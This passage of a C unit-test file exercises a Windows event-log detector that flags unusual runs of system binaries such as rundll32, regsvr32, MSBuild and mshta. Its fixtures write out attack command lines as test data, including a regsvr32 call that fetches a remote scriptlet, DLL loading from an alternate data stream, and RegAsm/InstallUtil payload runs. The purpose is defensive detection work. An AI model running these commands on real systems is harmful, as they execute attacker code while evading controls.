	ck_assert_int_ne(base_db_open(path, true, false, &db, &err), 0);
	ck_assert_msg(strstr(err.msg, "trigger 't'") != NULL, "%s", err.msg);
}
END_TEST

/* ---- priors ------------------------------------------------------ */

static void
load_priors(void)
{
	struct ev_err err = EV_ERR_INIT;
	const char *top = getenv("top_srcdir");
	char path[4096];

	snprintf(path, sizeof(path), "%s/rules/priors.yml", top ? top : ".");
	if (base_prior_load(cfg, path, &err) != 0)
		ck_abort_msg("cannot load %s: %s", path, err.msg);
}

static const struct {
	const char	*text;
	const char	*msg;
} bad_priors[] = {
	{ "binaries: { nosuch.exe: { arg: [x] } }\n", "not a watched binary" },
	{ "binaries: { rundll32.exe: { argz: [x] } }\n", "unknown feature" },
	{ "binaries: { rundll32.exe: { arg: x } }\n", "expected a list" },
	{ "binaries: { rundll32.exe: { arg: [''] } }\n", "expected a pattern" },
	{ "binaries: { rundll32.exe: {}, RUNDLL32.EXE: {} }\n", "listed twice" },
	{ "settings: { weight: -1 }\n", "bad number" },
	{ "settings: { rare: 2 }\n", "bad number" },
	{ "binaries: [rundll32.exe]\n", "expected a mapping" },
	{ "other: 1\n", "unknown key" },
	{ "binaries: { rundll32.exe: { arg: [x\n", "" },
};

START_TEST(prior_bad)
{
	struct ev_err err = EV_ERR_INIT;

	ck_assert_int_eq(base_prior_parse(cfg, bad_priors[_i].text,
	    strlen(bad_priors[_i].text), "p.yml", &err), EV_ERULE);
	ck_assert_msg(strstr(err.msg, bad_priors[_i].msg) != NULL &&
	    strncmp(err.msg, "p.yml:", 6) == 0, "%s", err.msg);
	/* nothing of a failed file is kept */
	for (size_t i = 0; i < cfg->nbins; i++)
		ck_assert_ptr_null(cfg->bins[i].prior);
	ck_assert_double_eq(cfg->prior_weight, BASE_DEF_PRIOR_WEIGHT);
}
END_TEST

START_TEST(prior_expects)
{
	static const char text[] = "settings: { weight: 7, rare: 0.5 }\n"
	    "binaries:\n"
	    "  rundll32.exe:\n"
	    "    parent: ['!*\\cmd.exe', '<system32>\\*']\n"
	    "    arg: ['!-embedding', '<system32>\\*', '<program-files>\\*']\n";
	struct ev_err err = EV_ERR_INIT;
	const struct base_prior *p;

	ck_assert_msg(base_prior_parse(cfg, text, strlen(text), "p.yml",
	    &err) == 0, "%s", err.msg);
	ck_assert_double_eq(cfg->prior_weight, 7);
	ck_assert_double_eq(cfg->prior_rare, 0.5);
	p = base_identify(cfg, &(struct ev_event){ .kind = EV_KIND_PROCESS,
	    .colidx = (const uint8_t [EV_NCOL]){ [EV_COL_IMAGE] = 1 },
	    .colv = (const char *const []){ "rundll32.exe" } }, NULL)->prior;
	ck_assert_ptr_nonnull(p);
	/* the first matching pattern decides */
	ck_assert_int_eq(base_prior_expects(p, BASE_F_PARENT,
	    "<system32>\\cmd.exe"), 0);
	ck_assert_int_eq(base_prior_expects(p, BASE_F_PARENT,
	    "<system32>\\svchost.exe"), 1);
	ck_assert_int_eq(base_prior_expects(p, BASE_F_PARENT,
	    "<user-temp>\\*.exe"), 0);
	/* arguments: locations, and others only when a pattern names them */
	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG,
	    "<system32>\\*.dll,control_rundll"), 1);
	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG,
	    "<user-temp>\\*.dll,#<n>"), 0);
	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG, "<url:javascript>"),
	    0);
	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG, "desk.cpl"), -1);
	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG, "-embedding"), 0);
	/* an alternate data stream is never expected */
	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG,
	    "<program-files>\\*.txt:*.dll,start"), 0);
	ck_assert_int_eq(base_prior_expects(p, BASE_F_ARG,
	    "<program-files>\\*.dll,<url:http>"), 1);
	/* no patterns for a type, or no prior: no opinion */
	ck_assert_int_eq(base_prior_expects(p, BASE_F_MODULE, "x"), -1);
	ck_assert_int_eq(base_prior_expects(NULL, BASE_F_ARG, "<url:x>"), -1);
}
END_TEST

/*
 * With the shipped priors, one run of each binary and no history at all:
 * the proxy executions the priors call unusual are findings (with the
 * prior named in the text), ordinary administrative runs are not.
 */
START_TEST(score_priors)
{
	static const struct {
		const char *image, *cmd, *parent, *cwd;
		enum ev_level min;	/* NONE: benign, no finding */
		const char *expect;
		const char *child;	/* the image of what it started */
	} runs[] = {
		/* benign */
		{ SYS32 "regsvr32.exe", "regsvr32 /s \"C:\\Program Files\\V"
		    "\\comp.dll\"", SYS32 "msiexec.exe", NULL, EV_LEVEL_NONE, NULL, NULL },
		{ SYS32 "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"
		    " desk.cpl", "C:\\Windows\\explorer.exe",
		    "C:\\Users\\bob\\", EV_LEVEL_NONE, NULL, NULL },
		{ SYS32 "wmic.exe", "wmic os get caption", SYS32 "cmd.exe",
		    "C:\\Users\\adm\\", EV_LEVEL_NONE, NULL, NULL },
		{ SYS32 "cscript.exe", "cscript //nologo C:\\Windows\\System32"
		    "\\slmgr.vbs /dli", SYS32 "cmd.exe", "C:\\Users\\adm\\",
		    EV_LEVEL_NONE, NULL, NULL },
		{ SYS32 "msiexec.exe", "msiexec /i C:\\Users\\bob\\Downloads"
		    "\\app.msi", "C:\\Windows\\explorer.exe", NULL,
		    EV_LEVEL_NONE, NULL, NULL },
		{ DOTNET "MSBuild.exe", "MSBuild.exe C:\\Users\\dev\\src\\a"
		    "\\a.sln /p:Configuration=Release", "C:\\Program Files\\VS"
		    "\\devenv.exe", NULL, EV_LEVEL_NONE, NULL, NULL },
		/* attacks */
		{ DOTNET "RegAsm.exe", "RegAsm.exe /U payload.dll", SYS32
		    "cmd.exe", "C:\\ProgramData\\x\\", EV_LEVEL_MEDIUM,
		    "regasm.exe: parent `<system32>\\cmd.exe` is not a usual "
		    "parent of regasm.exe (no other invocations)", NULL },
		{ DOTNET "MSBuild.exe", "MSBuild.exe C:\\Users\\Public\\b.xml",
		    SYS32 "WindowsPowerShell\\v1.0\\powershell.exe", NULL,
		    EV_LEVEL_MEDIUM, "argument `<users-public>\\*.xml`", NULL },
		{ SYS32 "mshta.exe", "mshta.exe -Embedding", SYS32 "svchost.exe",
		    NULL, EV_LEVEL_MEDIUM, "argument `-embedding`", NULL },
		{ SYS32 "rundll32.exe", "rundll32.exe C:\\Users\\Public\\d.txt"
		    ":p.dll,Start", "C:\\Windows\\explorer.exe", NULL,
		    EV_LEVEL_LOW, "argument `<users-public>\\*.txt:*.dll,start`", NULL },
		{ SYS32 "regsvr32.exe", "regsvr32 /s /u /i:http://e/a.sct "
		    "scrobj.dll", SYS32 "cmd.exe", NULL, EV_LEVEL_MEDIUM,
		    "argument `/i:<url:http>`", NULL },
		{ DOTNET "InstallUtil.exe", "InstallUtil.exe /logfile= /U "
		    "C:\\PROGRA~3\\x.dll", SYS32 "cmd.exe", NULL,
		    EV_LEVEL_MEDIUM, "argument `<short-name>\\*.dll`", NULL },
		/* the descendant view: judged by what it started */
		{ SYS32 "forfiles.exe", "forfiles /p C:\\Logs /m *.log /c "
		    "\"cmd /c del @path\"", SYS32 "cmd.exe", NULL, EV_LEVEL_NONE,
		    NULL, SYS32 "cmd.exe" },
		{ SYS32 "forfiles.exe", "forfiles /p c:\\windows\\system32 /m "
		    "notepad.exe /c calc.exe", SYS32 "cmd.exe", NULL,
		    EV_LEVEL_LOW, "child process `<system32>\\calc.exe`",
		    SYS32 "calc.exe" },
		{ SYS32 "wbem\\WMIC.exe", "wmic os get /format:x.xsl", SYS32
		    "cmd.exe", NULL, EV_LEVEL_LOW, "child process "
		    "`<user-profile>\\a<n>.exe`", "C:\\Users\\bob\\a1.exe" },
	};
	struct ev_event *ev[NELEM(runs)];
	struct base_result r;
	struct ev_err err = EV_ERR_INIT;
	struct corr *corr;
	char guid[40], host[16];

	load_priors();
	for (size_t i = 0; i < NELEM(runs); i++) {
		struct ev_event *e;

		snprintf(host, sizeof(host), "H%zu", i);
		e = ev[i] = proc(host, runs[i].image, "", runs[i].cmd,
		    runs[i].parent, guid);
		ck_assert_int_eq(ev_col_set(e, EV_COL_CURRENT_DIRECTORY,
		    runs[i].cwd, &arena), 0);
		if (runs[i].child != NULL)
			push(TEV_SYSMON(&arena, 1, host, tick + 1, recno++,
			    "ProcessGuid", "{00000000-0000-0000-0000-ffffffffffff}",
			    "ProcessId", "9", "ParentProcessGuid", guid,
			    "Image", runs[i].child, "ParentImage", runs[i].image,
			    NULL));
	}
	/* what the processes did: loads and connections */
	strcpy(guid, ev_col(ev[0], EV_COL_PROCESS_GUID));
	load("H0", guid, SYS32 "kernelbase.dll");	/* benign regsvr32 */
	strcpy(guid, ev_col(ev[10], EV_COL_PROCESS_GUID));
	load("H10", guid, SYS32 "scrobj.dll");	/* Squiblydoo */
	strcpy(guid, ev_col(ev[2], EV_COL_PROCESS_GUID));
	net("H2", guid, "10.0.0.9", "135");	/* wmic /node: */
	ck_assert_int_eq(corr_build(evs, nev, &corr, &err), 0);
	ck_assert_int_eq(base_score(cfg, NULL, corr, evs, nev, &r, &err), 0);
	for (size_t i = 0; i < NELEM(runs); i++) {
		const struct base_finding *f = finding_for(&r, ev[i],
		    BASE_FINDING_UNUSUAL);

		if (runs[i].min == EV_LEVEL_NONE) {
			ck_assert_msg(f == NULL, "benign flagged: %s: %s",
			    runs[i].cmd, f ? f->details : "");
			continue;
		}
		ck_assert_msg(f != NULL, "not flagged: %s", runs[i].cmd);
		ck_assert_msg(f->level >= runs[i].min && f->prior &&
		    strstr(f->details, runs[i].expect) != NULL &&
		    strstr(f->details, "history: ") != NULL &&
		    strstr(f->details, " other and the prior (weight 20)") !=
		    NULL, "%s:\n level %s, details '%s'\n want '%s'",
		    runs[i].cmd, ev_level_name(f->level), f->details,
		    runs[i].expect);
	}
	ck_assert(strstr(finding_for(&r, ev[10], BASE_FINDING_UNUSUAL)->details,
	    "loaded module `<system32>\\scrobj.dll`") != NULL);
	ck_assert_uint_eq(r.nunbaselined, 0);
	base_result_release(&r);
	corr_free(corr);
}
END_TEST

/* an inbound connection into a proxy: its local port is the feature */
START_TEST(score_prior_inbound)
{
	struct base_result r;
	struct ev_err err = EV_ERR_INIT;
	struct corr *corr;
	const struct base_finding *f;
	struct ev_event *p;
	char guid[40];

	load_priors();
	p = proc("H", SYS32 "regsvr32.exe", "REGSVR32.EXE", "regsvr32 /s "
	    "C:\\Windows\\System32\\a.dll", SYS32 "msiexec.exe", guid);
	push(TEV_SYSMON(&arena, 3, "H", tick + 5, recno++, "ProcessGuid",
	    guid, "Protocol", "tcp", "Initiated", "false", "SourceIp",
	    "10.0.0.7", "SourcePort", "4444", "DestinationIp", "10.0.0.2",
	    "DestinationPort", "51234", NULL));
	ck_assert_int_eq(corr_build(evs, nev, &corr, &err), 0);
	ck_assert_int_eq(base_score(cfg, NULL, corr, evs, nev, &r, &err), 0);
	f = finding_for(&r, p, BASE_FINDING_UNUSUAL);
	ck_assert_msg(f != NULL && f->level >= EV_LEVEL_LOW && strstr(f->details,
	    "network destination `in:private:4444/tcp` is not a usual network "
	    "destination of regsvr32.exe") != NULL, "%s", f ? f->details : "");
	base_result_release(&r);
	corr_free(corr);
}
END_TEST

START_TEST(identify)
{
	char guid[40];
	struct ev_event *e1, *e2, *e3, *e4;
	bool ren;

	e1 = proc("H", SYS32 "RUNDLL32.EXE", "", "x", "p", guid);
	e2 = proc("H", "C:\\t\\svc.exe", "RUNDLL32.EXE", "x", "p", guid);
	e3 = proc("H", SYS32 "notepad.exe", "NOTEPAD.EXE", "x", "p", guid);
	e4 = push(TEV_SEC(&arena, 4688, "H", 1, 1, "NewProcessName",
	    "C:\\Program Files\\PowerShell\\7\\pwsh.exe", NULL));
	ck_assert_str_eq(base_identify(cfg, e1, &ren)->name, "rundll32.exe");
	ck_assert(!ren);
	ck_assert_str_eq(base_identify(cfg, e2, &ren)->name, "rundll32.exe");
	ck_assert(ren);
	ck_assert_ptr_null(base_identify(cfg, e3, &ren));
	ck_assert_str_eq(base_identify(cfg, e4, &ren)->name, "powershell.exe");
	ck_assert(!ren);
}
END_TEST

/*
 * Older Sysmon (before 10) records no OriginalFileName: the PE
 * Description watched.yml lists says which binary a renamed copy is, and
 * the renamed finding quotes it.  An OriginalFileName, when present,
 * wins over the Description.
 */
START_TEST(identify_description)
{
	struct base_result r;
	struct ev_err err = EV_ERR_INIT;
	struct ev_event *e1, *e2, *e3, *e4;
	bool ren;

	e1 = push(TEV_SYSMON(&arena, 1, "H", 1, 1, "Image",
	    "C:\\ProgramData\\upd.exe", "Description",
	    "Microsoft (R) HTML Application host", "CommandLine",
	    "upd.exe x.hta", NULL));
	e2 = push(TEV_SYSMON(&arena, 1, "H", 2, 2, "Image",
	    SYS32 "mshta.exe", "Description",
	    "MICROSOFT (R) HTML APPLICATION HOST", NULL));
	e3 = push(TEV_SYSMON(&arena, 1, "H", 3, 3, "Image",
	    "C:\\t\\a.exe", "OriginalFileName", "notepad.exe",
	    "Description", "Microsoft(C) Register Server", NULL));
	e4 = push(TEV_SYSMON(&arena, 1, "H", 4, 4, "Image",
	    "C:\\t\\b.exe", "Description", "Microsoft (R) HTML Application",
	    NULL));
	ck_assert_str_eq(base_identify(cfg, e1, &ren)->name, "mshta.exe");
	ck_assert(ren);
	ck_assert_str_eq(base_identify(cfg, e2, &ren)->name, "mshta.exe");
	ck_assert(!ren);
	ck_assert_ptr_null(base_identify(cfg, e3, &ren));
	ck_assert(!ren);
	ck_assert_ptr_null(base_identify(cfg, e4, &ren));
	ck_assert_int_eq(base_score(cfg, NULL, NULL, evs, nev, &r, &err), 0);
	ck_assert_uint_eq(r.nfindings, 1);
	ck_assert_int_eq(r.findings[0].kind, BASE_FINDING_RENAMED);
	ck_assert_ptr_eq(r.findings[0].ev, e1);
	ck_assert_str_eq(r.findings[0].details, "PE Description 'Microsoft "
	    "(R) HTML Application host' but image C:\\ProgramData\\upd.exe");
	base_result_release(&r);
}
END_TEST

START_TEST(features)
{
	char guid[40];
	struct base_inv inv;
	struct ev_err err = EV_ERR_INIT;
	struct corr *corr;
	struct ev_event *p;
	static const char *const want[] = {
		"arg=<system32>\\*.dll,control_rundll", "arg=desk.cpl",
		"args=<system32>\\*.dll,control_rundll desk.cpl",
		"parent=<windir>\\explorer.exe",
		"image=<system32>\\rundll32.exe",
		"module=<system32>\\shell32.dll", "module=<user-temp>\\*.dll",
		"net=private:445/tcp",
	};

	p = proc("WS1", SYS32 "rundll32.exe", "RUNDLL32.EXE",
	    "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL "
	    "desk.cpl", "C:\\Windows\\explorer.exe", guid);
	load("WS1", guid, SYS32 "shell32.dll");
	load("WS1", guid, "C:\\Users\\a\\AppData\\Local\\Temp\\1.dll");
	load("WS1", guid, "C:\\Users\\a\\AppData\\Local\\Temp\\2.dll");
	net("WS1", guid, "10.1.1.1", "445");
	ck_assert_int_eq(corr_build(evs, nev, &corr, &err), 0);
	ck_assert_int_eq(base_features(cfg, corr, p, NULL, NULL, &inv), 0);
	ck_assert_str_eq(inv.host, "ws1");
	ck_assert_uint_eq(inv.nfeat, NELEM(want));
	for (size_t i = 0; i < NELEM(want); i++) {
		char s[256];

		snprintf(s, sizeof(s), "%s=%s",
		    base_ftype_name(inv.feat[i].type), inv.feat[i].value);
		ck_assert_str_eq(s, want[i]);
	}
	base_inv_release(&inv);

	/* interned: the same features, their bytes stored once */
	{
		struct base_inv a, b;
		struct ev_shared strings;
		struct ev_arena keep = EV_ARENA_INIT;

		ev_shared_init(&strings);

		/* b's array kept in an arena, a's its own */
		ck_assert_int_eq(base_features(cfg, corr, p, &strings, NULL,
		    &a), 0);
		ck_assert_int_eq(base_features(cfg, corr, p, &strings, &keep,
		    &b), 0);
		ck_assert(!a.feat_kept && b.feat_kept);
		ck_assert_uint_eq(keep.total > 0, 1);
		ck_assert_uint_eq(a.nfeat, NELEM(want));
		ck_assert_uint_eq(b.nfeat, NELEM(want));
		ck_assert_ptr_eq(a.host, b.host);
		ck_assert_str_eq(a.host, "ws1");
		for (size_t i = 0; i < NELEM(want); i++) {
			ck_assert_ptr_eq(a.feat[i].value, b.feat[i].value);
			ck_assert_str_eq(strchr(want[i], '=') + 1,
			    a.feat[i].value);
		}
		/* host + distinct values, nothing in the invocations */
		ck_assert_uint_eq(strings.vn, 1 + NELEM(want));
		ck_assert_ptr_null(a.arena);
		ck_assert_ptr_null(b.arena);
		base_inv_release(&a);
		base_inv_release(&b);
		ev_arena_release(&keep);
		ev_shared_release(&strings);
	}
	corr_free(corr);
}
END_TEST

/*
 * What --learn must not learn: an event the baseline reported at the
 * level or above, found by its place among the findings (in output
 * order; two for one event; first, middle and last events).
 */
START_TEST(reported_by_baseline)
{
	struct ev_event ev[10];
	struct base_finding f[4];
	struct base_result res;
	static const struct { unsigned at; enum ev_level level; } by[] = {
		{ 0, EV_LEVEL_LOW }, { 4, EV_LEVEL_LOW },
		{ 4, EV_LEVEL_HIGH }, { 9, EV_LEVEL_MEDIUM },
	};

	memset(ev, 0, sizeof(ev));
	memset(f, 0, sizeof(f));
	memset(&res, 0, sizeof(res));
	for (unsigned i = 0; i < NELEM(ev); i++)
		ev[i].seq = i;
	for (unsigned i = 0; i < NELEM(by); i++)
		f[i] = (struct base_finding){ .ev = &ev[by[i].at],
		    .level = by[i].level };
	res.findings = f;
	res.nfindings = NELEM(f);
	for (unsigned i = 0; i < NELEM(ev); i++) {
		ck_assert_int_eq(findings_reported_at(NULL, &res, &ev[i],
		    EV_LEVEL_MEDIUM), i == 4 || i == 9);
		ck_assert_int_eq(findings_reported_at(NULL, &res, &ev[i],
		    EV_LEVEL_LOW), i == 0 || i == 4 || i == 9);
		ck_assert(!findings_reported_at(NULL, NULL, &ev[i],
		    EV_LEVEL_LOW));
	}
	res.nfindings = 0;
	ck_assert(!findings_reported_at(NULL, &res, &ev[4], EV_LEVEL_LOW));
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("base");
	TCase *tc;
	SRunner *sr;
	int failed;

	tc = tcase_create("shape");
	tcase_add_loop_test(tc, argv_split, 0, NELEM(argv_cases));
	tcase_add_test(tc, argv_bounds);
	tcase_add_loop_test(tc, shape_cmdline, 0, NELEM(shape_cases));
	tcase_add_test(tc, shape_bounded);
	tcase_add_loop_test(tc, resolve_arg, 0, NELEM(resolve_cases));
	tcase_add_loop_test(tc, shape_file, 0, NELEM(file_cases));
	tcase_add_loop_test(tc, ip_class, 0, NELEM(ip_cases));
	suite_add_tcase(s, tc);

	tc = tcase_create("config");
	tcase_add_checked_fixture(tc, load_cfg, free_cfg);
	tcase_add_test(tc, config_shipped);
	tcase_add_loop_test(tc, config_bad, 0, NELEM(bad_configs));
	suite_add_tcase(s, tc);

	tc = tcase_create("score");
	tcase_add_checked_fixture(tc, ev_setup, ev_teardown);
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, identify);
	tcase_add_test(tc, identify_description);
	tcase_add_test(tc, features);
	tcase_add_test(tc, score_stacking);
	tcase_add_test(tc, score_unbaselined);
	tcase_add_loop_test(tc, prior_bad, 0, NELEM(bad_priors));
	tcase_add_test(tc, prior_expects);
	tcase_add_test(tc, score_priors);
	tcase_add_test(tc, score_prior_inbound);
	tcase_add_test(tc, reported_by_baseline);
	suite_add_tcase(s, tc);

	tc = tcase_create("db");
	tcase_add_checked_fixture(tc, db_setup, db_teardown);
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, score_with_db);
	tcase_add_test(tc, merge_equals_learn);
	tcase_add_test(tc, hostile_0008_baseline_budget);
	suite_add_tcase(s, tc);

	sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
